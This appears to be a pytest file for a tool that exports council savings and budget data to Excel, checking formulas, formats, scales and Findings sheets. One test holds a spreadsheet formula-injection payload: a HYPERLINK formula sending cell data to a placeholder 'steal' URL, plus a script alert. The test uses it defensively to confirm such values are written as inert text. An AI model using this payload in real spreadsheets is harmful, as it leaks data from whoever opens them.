"""The workbook is laid out from the reports' column descriptions: no column letter is fixed."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import re
import shutil
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from conftest import DATA, EXAMPLES, Edit, FolderCopy, csp302_folder, csplan
from csplan import validate_plan
from csplan.cli import app
from csplan.position import position
from csplan.programme import programme
from csplan.render import budget as render_budget
from csplan.render import pressures as render_pressures
from csplan.render import savings as render_savings
from csplan.render.programme import SHEET_TOTALS
from csplan.render.tables import Column, Difference, Ratio, Share, Sheet, Table
from csplan.render.workbook import write_sheet, write_workbook


def export(tmp_path: Path) -> Path:
    out = tmp_path / "out.xlsx"
    result = CliRunner().invoke(app, ["--data", str(EXAMPLES / "illustrative"), "export", str(out), "-p", "P06"])
    assert result.exit_code == 0, result.output
    return out


def test_a_new_column_moves_every_formula_that_refers_to_the_columns_after_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    before = load_workbook(export(tmp_path))
    assert before["Summary"]["B4"].value == "=Savings!F14"  # the target total
    wider = (*render_savings.SHEET_COLUMNS[:2], Column("owner", "Owner"), *render_savings.SHEET_COLUMNS[2:])
    monkeypatch.setattr(render_savings, "SHEET_COLUMNS", wider)
    after = load_workbook(export(tmp_path))
    savings, summary = after["Savings"], after["Summary"]
    assert [c.value for c in savings[1]][:4] == ["ID", "Saving", "Owner", "Division"]
    assert savings["G14"].value == "=SUM(G2:G13)"  # the target column, one to the right
    rows = {row[0]: row[1:] for row in summary.iter_rows(values_only=True)}
    assert rows["Savings target"][0] == "=Savings!G14"
    assert rows["Savings forecast"][0] == "=Savings!H14"
    assert rows["Savings red"] == ('=COUNTIF(Savings!L2:L13,"red")', '=SUMIF(Savings!L2:L13,"red",Savings!G2:G13)')
    assert savings["L2"].value in {"blue", "green", "amber", "red", "not reported"} and savings["L2"].fill.fgColor.rgb


def test_number_formats_follow_each_column_kind(tmp_path: Path) -> None:
    book = load_workbook(export(tmp_path))
    savings, budget = book["Savings"], book["Budget variance"]
    assert savings["F2"].number_format.startswith('"£"#,##0') and savings["J2"].number_format == "0.0%"
    assert budget["C2"].number_format.endswith('"£"0.000"m"') and budget["F2"].number_format == "0.0%"
    bridge = next(r for r in range(2, budget.max_row + 1) if budget[f"A{r}"].value == "Bridge")
    assert [budget[f"{c}{bridge}"].value for c in "ABCI"] == ["Bridge", "Step", "Amount", "Source"]
    assert budget[f"C{bridge + 1}"].number_format.endswith('"£"0.000"m"')


def renamed(columns: tuple[Column, ...], headers: dict[str, str]) -> tuple[Column, ...]:
    return tuple(dataclasses.replace(c, header=headers.get(c.key, c.header)) for c in columns)


@pytest.mark.parametrize("units", [(), ("--units", "thousands")])
def test_formulas_colours_links_and_wrapping_follow_the_column_keys_not_the_header_words(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, units: tuple[str, ...]
) -> None:
    """Headers renamed (and, with --units, the scale label after the new words, as in
    "Funded £'000"): every formula, RAG colour, Summary link and wrap stays in its column."""
    monkeypatch.setattr(
        render_savings,
        "SHEET_COLUMNS",
        renamed(
            render_savings.SHEET_COLUMNS,
            {
                "description": "Proposal",
                "target": "Full-year target",
                "forecast": "Outturn",
                "percent": "Delivery",
                "rag": "Status",
            },
        ),
    )
    monkeypatch.setattr(
        render_pressures,
        "SHEET_COLUMNS",
        renamed(render_pressures.SHEET_COLUMNS, {"amount": "Funded", "share": "Of all"}),
    )
    monkeypatch.setattr(
        render_budget, "SHEET_COLUMNS", renamed(render_budget.SHEET_COLUMNS, {"budget": "Approved", "percent": "Over"})
    )
    out = tmp_path / "out.xlsx"
    result = csplan(EXAMPLES / "illustrative", *units, "export", str(out), "-p", "P06")
    assert result.exit_code == 0, result.output
    book = load_workbook(out)
    savings, pressures, budget = book["Savings"], book["Pressures"], book["Budget variance"]
    scale = " £'000" if units else ""
    assert [savings[f"{c}1"].value for c in "BFGJK"] == [
        "Proposal",
        f"Full-year target{scale}",
        f"Outturn{scale}",
        "Delivery",
        "Status",
    ]
    assert savings["I7"].value == "=G7-F7" and savings["J7"].value == '=IF(F7=0,"",ROUNDDOWN(G7/F7,3))'
    assert savings["J14"].value == '=IF(F14=0,"",G14/F14)' and savings["J7"].number_format == "0.0%"
    assert [str(r.sqref) for r in savings.conditional_formatting] == ["K2:K13"]
    assert savings["B2"].alignment.wrap_text and savings.column_dimensions["B"].width == 40
    assert (
        pressures["D1"].value == f"Funded{scale}"
        and pressures[f"{'E' if units else 'F'}2"].value == '=IF($D$7=0,"",D2/$D$7)'
    )
    assert budget["C1"].value == f"Approved{scale}" and budget["F5"].value == '=IF(C5=0,"",E5/ABS(C5))'
    links = {row[0]: row[1] for row in book["Summary"].iter_rows(values_only=True)}
    # The Summary is in the Savings sheet's scale (pounds, or --units), as every sheet it
    # links to here: each link is the total itself, no factor.
    assert links["Pressure funding"] == "=Pressures!$D$7"
    assert links["Budget"] == "='Budget variance'!$C$5"
    assert links["Budget forecast variance"] == "='Budget variance'!$E$5"
    assert links["Savings target"] == "=Savings!F14"
    assert book["Summary"]["C1"].value == ("Target (£'000)" if units else "Target (£)")


def test_a_sheet_writes_its_derived_columns_as_formulas_by_key(tmp_path: Path) -> None:
    """Any sheet description gets its ratio, difference and share formulas, its RAG
    colours and its wrapping, wherever its columns land and whatever they are called."""
    from openpyxl import Workbook

    columns = (
        Column("name", "Name", wrap=12),
        Column("spent", "Spent", "money"),
        Column("gap", "Gap", "money"),
        Column("plan", "Plan", "money"),
        Column("used", "Used", "percent"),
        Column("part", "Part", "percent"),
        Column("state", "State", "rag"),
    )
    rows: list[dict[str, Any]] = [
        {
            "name": "A long name that wraps",
            "spent": Decimal(30),
            "gap": Decimal(-70),
            "plan": Decimal(100),
            "state": "red",
        },
        {"name": "None spent", "plan": Decimal(50), "state": "green"},
    ]
    spec = Sheet(
        "Made up",
        Table(None, columns, rows, [{"name": "Total"}]),
        frozenset({"spent", "plan"}),
        derived=(
            Ratio("used", "spent", "plan", with_total=True),
            Difference("gap", "spent", "plan"),
            Share("part", "plan"),
        ),
    )
    book = Workbook()
    placed = write_sheet(book, spec)
    sheet = book["Made up"]
    assert (placed.first, placed.last, placed.total("plan")) == (2, 3, "D4")
    assert [sheet[f"{c}2"].value for c in "CEF"] == ["=B2-D2", '=IF(D2=0,"",B2/D2)', '=IF($D$4=0,"",D2/$D$4)']
    assert sheet["C3"].value is None and sheet["E3"].value is None  # nothing spent: no gap, no ratio
    assert sheet["E4"].value == '=IF(D4=0,"",B4/D4)' and sheet["F3"].value == '=IF($D$4=0,"",D3/$D$4)'
    assert [str(r.sqref) for r in sheet.conditional_formatting] == ["G2:G3"]
    assert sheet["A2"].alignment.wrap_text and sheet.row_dimensions[2].height == 45  # 22 characters, 10 a line
    assert placed.whole("plan") == "='Made up'!$D$4"


@pytest.mark.parametrize(
    ("name", "link"),
    [("Savings", "=Savings!$B$3"), ("Made up", "='Made up'!$B$3"), ("O'Neil's", "='O''Neil''s'!$B$3")],
)
def test_a_link_to_a_sheet_quotes_its_name_as_spreadsheets_do(name: str, link: str) -> None:
    """A link to another sheet's total quotes a name that needs it, an apostrophe in it
    doubled, by the one rule the tabular reader's cell references use."""
    from openpyxl import Workbook

    from csplan.tabular import Cell as TableCell

    book = Workbook()
    columns = (Column("name", "Name"), Column("plan", "Plan", "money"))
    spec = Sheet(
        name, Table(None, columns, [{"name": "A", "plan": Decimal(5)}], [{"name": "Total"}]), frozenset({"plan"})
    )
    placed = write_sheet(book, spec)
    assert placed.whole("plan") == link
    assert link == "=" + TableCell(name, 3, 2, None).ref.replace("B3", "$B$3")
    # a spreadsheet's formula grammar reads it as one reference
    from openpyxl.formula import Tokenizer

    (operand,) = Tokenizer(link).items
    assert operand.subtype == "RANGE" and operand.value == link[1:]


# -- the Programme sheet: `savings programme` in the workbook --------------------------------


def run(data: Path, *args: str) -> str:
    result = csplan(data, *args)
    assert result.exit_code == 0, result.output
    return result.stdout


def markdown_programme(data: Path, *units: str) -> tuple[list[str], list[str]]:
    """`savings programme --format markdown`: its header words, and the lines under the table."""
    text = run(data, *units, "savings", "programme", "--format", "markdown").splitlines()
    header = next(line for line in text if line.startswith("| "))
    said = [line.removesuffix("  ") for line in text if line and not line.startswith(("|", "**"))]
    return [cell.strip() for cell in header.strip("|").split("|")], said


def exported_programme(data: Path, out: Path, *units: str) -> Any:
    run(data, *units, "export", str(out))
    book = load_workbook(out)
    # after the Summary (the year's sheets keep their places); only Findings may follow,
    # then the hidden as-sent record, always last
    names = [name for name in book.sheetnames if name not in ("Findings", "csplan as sent")]
    assert names[-2:] == ["Summary", "Programme"] and book.sheetnames[-2] in ("Programme", "Findings")
    assert book.sheetnames[-1] == "csplan as sent"
    return book["Programme"]


def sheet_sum(sheet: Any, formula: str) -> Decimal:
    """Evaluate csplan's =SUM(X2:X5) over the sheet's own cells."""
    match = re.fullmatch(r"=SUM\(([A-Z]+)(\d+):\1(\d+)\)", formula)
    assert match, formula
    cells = (sheet[f"{match[1]}{row}"].value for row in range(int(match[2]), int(match[3]) + 1))
    return sum((Decimal(str(value)) for value in cells if value is not None), Decimal(0))


@pytest.fixture(params=["shipped", "year-end closed", "published with its MTFS"])
def programme_folder(request: pytest.FixtureRequest, folder_copy: FolderCopy, edit: Edit) -> Path:
    """Folders whose programme is one open year; two years, one closed, with pence,
    slippage and a replacement; four planned years beside one savings file."""
    if request.param == "shipped":
        return folder_copy(DATA)
    if request.param == "year-end closed":
        data = folder_copy("year-end")
        run(data, "savings", "close-year", "--year", "2025-26", "--write-off", "S09", "--reason", "closed")
        return data
    data = folder_copy("published")
    shutil.move(data / "mtfs" / "programme.yaml", data / "programme.yaml")
    edit(data / "programme.yaml", "total: 1350000", "total: 1350001")  # mend the published £1 slip
    return data


def test_programme_sheet_is_the_savings_programme_csv_with_formula_totals(
    programme_folder: Path, tmp_path: Path
) -> None:
    sheet = exported_programme(programme_folder, tmp_path / "book.xlsx")
    headers, said = markdown_programme(programme_folder)
    # a thousands tracker's programme is in £'000 (as `savings programme` shows it), others in pounds
    thousands = "\nunits: thousands\n" in (programme_folder / "savings.yaml").read_text(encoding="utf-8")
    assert all(h.endswith(" £'000") for h in headers[2:]) is thousands
    scale, pounds_format = (Decimal(1000), "#,##0") if thousands else (Decimal(1), '"£"#,##0')
    # the table's columns, then Carried, which makes the total row add up
    assert [cell.value for cell in sheet[1]] == [*headers, "Carried £'000" if thousands else "Carried"]
    named, *rows = list(csv.reader(io.StringIO(run(programme_folder, "savings", "programme", "--format", "csv"))))
    # The CSV's last columns, unused mitigation and over delivered, are no columns of the
    # sheet: its lines say them.
    assert [key.removesuffix(" (£'000)") for key in named[-2:]] == ["unused_mitigation", "over_delivered"]
    named, rows = named[:-2], [row[:-2] for row in rows]
    keys = [key.removesuffix(" (£'000)") for key in named]
    assert len(keys) == len(headers) and (keys != named) is thousands
    for number, row in enumerate(rows, start=2):
        shown = [cell.value for cell in sheet[number]]
        assert shown[:2] == row[:2] and shown[-1] is None  # carried is a figure of the totals alone
        for key, cell, value in zip(keys[2:], sheet[number][2:-1], row[2:], strict=True):
            if value == "":
                assert cell.value is None, (key, number)
            else:  # a number with a £ format, never text
                assert isinstance(cell.value, int | float) and Decimal(str(cell.value)) == Decimal(value), (key, number)
                assert cell.number_format.startswith(pounds_format), (key, number)
    total = len(rows) + 2
    assert sheet[f"A{total}"].value == "Total"
    totals = json.loads(run(programme_folder, "savings", "programme", "--format", "json"))["totals"]
    summed = {key: sheet_sum(sheet, cell.value) for key, cell in zip(keys[2:], sheet[total][2:-1], strict=True)}
    assert {key: figure * scale for key, figure in summed.items()} == {
        key: Decimal(str(totals[key])) for key in keys[2:]
    }
    # each pound once: the target's total sums the New column, not the Target column
    letters = {key: cell.column_letter for key, cell in zip([*keys, "carried"], sheet[1], strict=True)}
    assert sheet[f"{letters['target']}{total}"].value == f"=SUM({letters['new']}2:{letters['new']}{total - 1})"
    # carried, a formula over the totals, and the row adds up on the sheet itself
    at = {key: f"{letters[key]}{total}" for key in ("slipped_out", "replaced", "brought_forward", "carried")}
    assert sheet[at["carried"]].value == f"={at['slipped_out']}+{at['replaced']}-{at['brought_forward']}"
    carried = summed["slipped_out"] + summed["replaced"] - summed["brought_forward"]
    assert carried * scale == Decimal(str(totals["carried"]))
    assert summed["target"] == summed["delivered"] + summed["written_off"] + summed["still_open"] + carried
    assert sheet[at["carried"]].number_format.startswith(pounds_format)
    # directly under the totals what they mean, then how it reconciles, as the command
    # says it; the totals are the only formulas
    assert [sheet[f"A{row}"].value for row in range(total + 1, sheet.max_row + 1)] == [*SHEET_TOTALS, None, *said]
    assert "Target = Delivered + Written off + Still open + Carried" in SHEET_TOTALS[0]
    formulas = [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert formulas == [cell.coordinate for cell in sheet[total][2:]]
    assert sheet.print_title_rows == "$1:$1" and sheet.page_setup.orientation == "landscape"
    assert sheet.freeze_panes == "A2"


def test_programme_sheet_in_thousands(folder_copy: FolderCopy, tmp_path: Path) -> None:
    data = folder_copy("year-end")
    run(data, "savings", "close-year", "--year", "2025-26", "--write-off", "S09", "--reason", "closed")
    sheet = exported_programme(data, tmp_path / "book.xlsx", "--units", "thousands")
    headers, _ = markdown_programme(data, "--units", "thousands")
    assert [cell.value for cell in sheet[1]] == [*headers, "Carried £'000"] and headers[2] == "New £'000"
    thousands = run(data, "--units", "thousands", "savings", "programme", "--format", "csv")
    _, *rows = [row[:-2] for row in csv.reader(io.StringIO(thousands))]  # all but the last two, as above
    assert rows[0][5] == "2710.99955"  # delivered in 2025-26: £2,710,999.55
    # Each column shows as many decimals as its figures need: delivered's 2710.99955, five.
    places = [max(len(row[i].partition(".")[2]) for row in rows) for i in range(2, len(rows[0]))]
    assert places[3] == 5
    for number, row in enumerate(rows, start=2):
        for cell, value, needed in zip(sheet[number][2:-1], row[2:], places, strict=True):
            # the cell holds the exact figure in £'000 (no pounds behind a scaling format)
            assert Decimal(str(cell.value)) == Decimal(value), cell.coordinate
            shown = "0." + "0" * needed if needed else "0"
            assert cell.number_format == f"#,##{shown};(#,##{shown});{shown}", cell.coordinate


def test_a_position_without_a_programme_year_gets_no_programme_sheet(folder_copy: FolderCopy, tmp_path: Path) -> None:
    data = folder_copy(DATA)
    plan, _ = validate_plan(data)
    found = position(plan, with_programme=False)
    write_workbook(tmp_path / "none.xlsx", found)
    assert "Programme" not in load_workbook(tmp_path / "none.xlsx").sheetnames
    # a programme of no year (a folder with a budget and no savings file) is no programme
    budget_only = folder_copy(DATA, "budget-only")
    (budget_only / "savings.yaml").unlink()
    found.programme = programme(validate_plan(budget_only)[0])
    assert found.programme.years == []
    write_workbook(tmp_path / "empty.xlsx", found)
    assert load_workbook(tmp_path / "empty.xlsx").sheetnames == [
        *("Savings", "Pressures", "Budget variance", "Summary", "csplan as sent")
    ]


# -- a workbook written from data with errors says so ----------------------------------------


def test_data_with_errors_gets_a_findings_sheet_and_a_summary_line(folder_copy: FolderCopy, tmp_path: Path) -> None:
    folder = csp302_folder(folder_copy)
    out = tmp_path / "errors.xlsx"
    result = csplan(folder, "export", str(out))
    assert result.exit_code == 1, result.output  # written, and 1, as before
    assert "error CSP302" in result.stderr
    book = load_workbook(out)
    assert book.sheetnames == [
        *("Savings", "Pressures", "Budget variance", "Summary", "Programme", "Findings", "csplan as sent")
    ]
    summary = book["Summary"]
    assert summary["D1"].value == "The data has 1 error: its figures may not agree (see the Findings sheet)"
    assert summary["D1"].font.b and summary["D1"].font.color.rgb == "009C0006" and summary["A2"].value == "Year"
    findings = [list(row) for row in book["Findings"].iter_rows(values_only=True)]
    assert findings == [
        ["Code", "Severity", "File", "Line", "Column", "Message", "Hint"],
        [
            "CSP302",
            "error",
            str(folder / "budget_2025_26.yaml"),
            24,
            12,
            f"includes.savings is £3.258m but {folder / 'savings.yaml'}:86 states £3,225,000 (difference £0.033m)",
            "make includes.savings equal the savings total, or correct that file",
        ],
    ]
    assert book["Findings"].print_title_rows == "$1:$1"  # printed like every other sheet
    # the figures are still those of the data: the Summary's target is the Savings total, £3,225,000
    target = next(row[1] for row in summary.iter_rows(values_only=True) if row[0] == "Savings target")
    total = book["Savings"][target.removeprefix("=Savings!")].value
    assert sheet_sum(book["Savings"], total) == Decimal(3225000)


def test_warnings_only_get_a_findings_sheet_and_no_summary_notice(folder_copy: FolderCopy, tmp_path: Path) -> None:
    """The published folder's CSP415 and CSP120 warnings reach the workbook; its figures
    agree, so the Summary says nothing and the command exits 0."""
    data = folder_copy("published")
    out = tmp_path / "warned.xlsx"
    result = csplan(data, "export", str(out))
    assert result.exit_code == 0, result.output
    warned = [line for line in result.stderr.splitlines() if ": warning CSP" in line]
    assert len(warned) == 5
    book = load_workbook(out)
    assert book.sheetnames[-2:] == ["Findings", "csplan as sent"] and book["Summary"].max_column == 3
    sheet = book["Findings"]
    assert [cell.value for cell in sheet[1]] == [
        "Code",
        "Severity",
        "File",
        "Line",
        "Column",
        "Message",
        "Hint",
    ]
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    assert [
        f"{path}:{line}:{column}: warning {code} {message}" for code, _, path, line, column, message, _ in rows
    ] == warned
    assert {row[1] for row in rows} == {"warning"}


def test_errors_come_first_then_warnings(folder_copy: FolderCopy, tmp_path: Path) -> None:
    from csplan.findings import error, warning

    found = position(validate_plan(folder_copy(DATA))[0])
    findings = [
        warning("CSP404", "a.yaml", 1, None, "officer's green"),
        error("CSP302", "b.yaml", 2, None, "differs"),
        warning("CSP415", "c.yaml", 3, None, "unaccounted"),
        error("CSP201", "d.yaml", 4, None, "sum"),
    ]
    write_workbook(tmp_path / "both.xlsx", found, findings=findings)
    book = load_workbook(tmp_path / "both.xlsx")
    sheet = book["Findings"]
    assert [row[:2] for row in sheet.iter_rows(min_row=2, values_only=True)] == [
        ("CSP302", "error"),
        ("CSP201", "error"),
        ("CSP404", "warning"),
        ("CSP415", "warning"),
    ]
    assert sheet.max_column == 7  # one table, nothing beside it
    assert book["Summary"]["D1"].value == "The data has 2 errors: its figures may not agree (see the Findings sheet)"


def test_clean_data_gets_neither(tmp_path: Path) -> None:
    book = load_workbook(export(tmp_path))
    assert "Findings" not in book.sheetnames and book["Summary"]["A2"].value == "Year"
    assert book["Summary"].max_column == 3  # no notice beside the header


@pytest.mark.parametrize("errors", [1, 2])
def test_the_errors_notice_moves_no_summary_row(folder_copy: FolderCopy, tmp_path: Path, errors: int) -> None:
    """A reference to the Summary (Summary!B4, the savings target) means the same cell
    whether the data has errors or not: the notice sits beside the header, in row 1."""
    from csplan.findings import error

    found = position(validate_plan(folder_copy(DATA))[0])
    write_workbook(tmp_path / "clean.xlsx", found)
    findings = [error("CSP302", "budget.yaml", n, None, "includes.savings differs") for n in range(errors)]
    write_workbook(tmp_path / "errors.xlsx", found, findings=findings)
    clean, wrong = load_workbook(tmp_path / "clean.xlsx")["Summary"], load_workbook(tmp_path / "errors.xlsx")["Summary"]
    assert clean["A4"].value == "Savings target" and clean["B4"].value == "=Savings!F14"
    assert list(wrong.iter_rows(max_col=3, values_only=True)) == list(clean.iter_rows(values_only=True))
    words = "1 error" if errors == 1 else "2 errors"
    assert wrong["D1"].value == f"The data has {words}: its figures may not agree (see the Findings sheet)"
    assert wrong["D1"].font.b and wrong.freeze_panes == "A2" and wrong.print_title_rows == "$1:$1"
    # wide enough to read in full, on screen and on the printed page
    assert wrong.column_dimensions["D"].width >= len(wrong["D1"].value)


def test_a_finding_is_text_in_the_workbook(folder_copy: FolderCopy, tmp_path: Path) -> None:
    from csplan.findings import error, warning

    plan, _ = validate_plan(folder_copy(DATA))
    hostile = '=HYPERLINK("http://example.invalid/steal?d="&A1,"details")<script>alert(1)</script>'
    findings = [error("CSP302", "=A1.yaml", 3, None, hostile, "+1"), warning("CSP404", "savings.yaml", 4, 5, "-2")]
    write_workbook(tmp_path / "hostile.xlsx", position(plan), findings=findings)
    book = load_workbook(tmp_path / "hostile.xlsx")
    rows = list(book["Findings"].iter_rows(min_row=2))
    assert [[cell.value for cell in row] for row in rows] == [
        ["CSP302", "error", "=A1.yaml", 3, None, hostile, "+1"],
        ["CSP404", "warning", "savings.yaml", 4, 5, "-2", None],
    ]
    assert {cell.data_type for row in rows for cell in row if isinstance(cell.value, str)} == {"s"}
    assert not [
        cell
        for sheet in book
        for row in sheet.iter_rows()
        for cell in row
        if "HYPERLINK" in str(cell.value) and cell.data_type == "f"
    ]


SCALE_LABEL = {"pounds": "£", "thousands": "£'000", "millions": "£m"}
SCALE_SUFFIX = {"pounds": "", "thousands": "k", "millions": "m"}
LABEL_IN_TEXT = re.compile(r"£(?:'000|m(?![a-z]))?(?!\d)")
AMOUNT_IN_TEXT = re.compile(r"£\d[\d,]*(?:\.\d+)?([km]?)")
FILES_OWN = re.compile(r"[\w.-]+\.yaml: ")
"""The bridge's Source: a file's own ``source:`` words, quoted."""


def money_phrases_out_of_scale(book: Any, scale: str) -> list[str]:
    """Every visible cell (bar the Findings, which quote `csplan validate`) whose money
    is not in ``scale``: a text naming another scale or an amount written in another,
    or a number whose format scales it (or names another scale)."""
    wrong = []
    for sheet in book.worksheets:
        if sheet.sheet_state != "visible" or sheet.title == "Findings":
            continue
        for row in sheet.iter_rows():
            for cell in row:
                value, where = cell.value, f"{sheet.title}!{cell.coordinate}"
                if isinstance(value, str) and not value.startswith("=") and "£" in value:
                    if FILES_OWN.match(value):
                        continue
                    labels = {label for label in LABEL_IN_TEXT.findall(value)}
                    # nothing is £0 in any scale
                    suffixes = {m[1] for m in AMOUNT_IN_TEXT.finditer(value) if m[0] != "£0"}
                    if labels - {SCALE_LABEL[scale]} or suffixes - {SCALE_SUFFIX[scale]}:
                        wrong.append(f"{where} {value!r}")
                elif value is not None and cell.number_format not in ("General", "0.0%"):
                    shown = cell.number_format
                    named = {"k" for _ in re.findall(r'"k"', shown)} | {"m" for _ in re.findall(r'"m"', shown)}
                    # A scaled sheet's figures are plain (its header names the scale);
                    # the Summary's format names the scale on the figure itself.
                    plain = scale != "pounds" and sheet.title != "Summary"
                    if ",," in shown or named - {SCALE_SUFFIX[scale]} or (plain and "£" in shown):
                        wrong.append(f"{where} {value!r} [{shown}]")
    return wrong


@pytest.mark.parametrize(
    ("example", "units", "scale"),
    [
        ("published", (), "thousands"),
        ("published", ("--units", "millions"), "millions"),
        ("published", ("--units", "pounds"), "pounds"),
        ("illustrative", ("--units", "thousands"), "thousands"),
        ("illustrative", ("--units", "millions"), "millions"),
    ],
)
def test_every_money_figure_and_phrase_of_the_workbook_is_in_one_scale(
    folder_copy: FolderCopy, tmp_path: Path, example: str, units: tuple[str, ...], scale: str
) -> None:
    """A £'000 file's workbook (or --units): every sheet's headers, figures' formats and
    the words under its tables (the Mitigations' unused line, the budget position and the
    lines' red amount, the Summary) say money in the one scale, as the HTML report does;
    the Summary's figures are held in that scale and their format names it."""
    from test_cli import mitigated_published

    folder = mitigated_published(folder_copy) if example == "published" else folder_copy(example)
    if example == "published":  # a mitigation beyond its shortfall: the Unused column and line
        result = csplan(folder, "savings", "mitigate", "SV06", "-p", "P12", "--amount", "150", "--note", "Grant")
        assert result.exit_code == 0, result.output
    out = tmp_path / "book.xlsx"
    result = csplan(folder, "export", str(out), *units)
    assert result.exit_code == 0, result.output
    book = load_workbook(out)
    assert money_phrases_out_of_scale(book, scale) == []
    summary = book["Summary"]
    rows = {summary[f"A{r}"].value: summary[f"B{r}"] for r in range(2, summary.max_row + 1)}
    assert summary["C1"].value == f"Target ({SCALE_LABEL[scale]})"
    assert rows["Savings target"].value == f"=Savings!{'D' if example == 'published' else 'F'}{book['Savings'].max_row}"
    words = {"published": {"pounds": "£450,000", "thousands": "£450k", "millions": "£0.450m"}}
    if example == "published":
        assert rows["Budget position"].value == f"forecast overspend {words[example][scale]} (0.5%)"
        mitigations = book["Mitigations"]
        unused = [c.value for c in mitigations["A"] if isinstance(c.value, str) and c.value.startswith("Unused")]
        assert unused and unused[0].startswith(
            f"Unused {'£50k' if scale == 'thousands' else '£0.050m' if scale == 'millions' else '£50,000'}:"
        )
        assert f"Unused {SCALE_LABEL[scale]}" in [c.value for c in mitigations[1]]
        # The HTML report of the same data (and --units) words them the same way: the
        # budget card, each saving's reason (its Why line) and the mitigation lines.
        page = tmp_path / "report.html"
        assert csplan(folder, "report", "-o", str(page), *units).exit_code == 0
        html = page.read_text(encoding="utf-8")
        assert f"forecast overspend {words[example][scale]} (0.5%)" in html
        savings = book["Savings"]
        heads = {c.value: c.column for c in savings[1]}
        # the Why lines: each red or amber saving's reason
        reasons = [
            row[heads["Reason"] - 1]
            for row in savings.iter_rows(min_row=2, values_only=True)
            if row[heads["RAG"] - 1] in ("red", "amber")
        ]
        assert len(reasons) == 3 and all(reason in html for reason in reasons), reasons


def test_the_unscaled_workbook_keeps_its_summary_in_pounds(tmp_path: Path) -> None:
    """With no one scale (a pounds savings file beside £m budget and pressures files, no
    --units), the Summary is in pounds, words and figures: the budget position says
    £1,680,000 where the Budget variance sheet, in its file's £m, says £1.680m."""
    out = tmp_path / "book.xlsx"
    assert csplan(EXAMPLES / "illustrative", "export", str(out)).exit_code == 0
    book = load_workbook(out)
    summary = book["Summary"]
    rows = {summary[f"A{r}"].value: summary[f"B{r}"] for r in range(2, summary.max_row + 1)}
    assert summary["C1"].value == "Target (£)"
    assert rows["Budget position"].value == "forecast overspend £1,680,000 (1.0%)"
    assert (
        rows["Budget"].value == "='Budget variance'!$C$5" and rows["Budget"].number_format == '"£"#,##0;("£"#,##0);"£"0'
    )
    assert book["Budget variance"]["A6"].value == "Forecast overspend £1.680m (1.0%)"
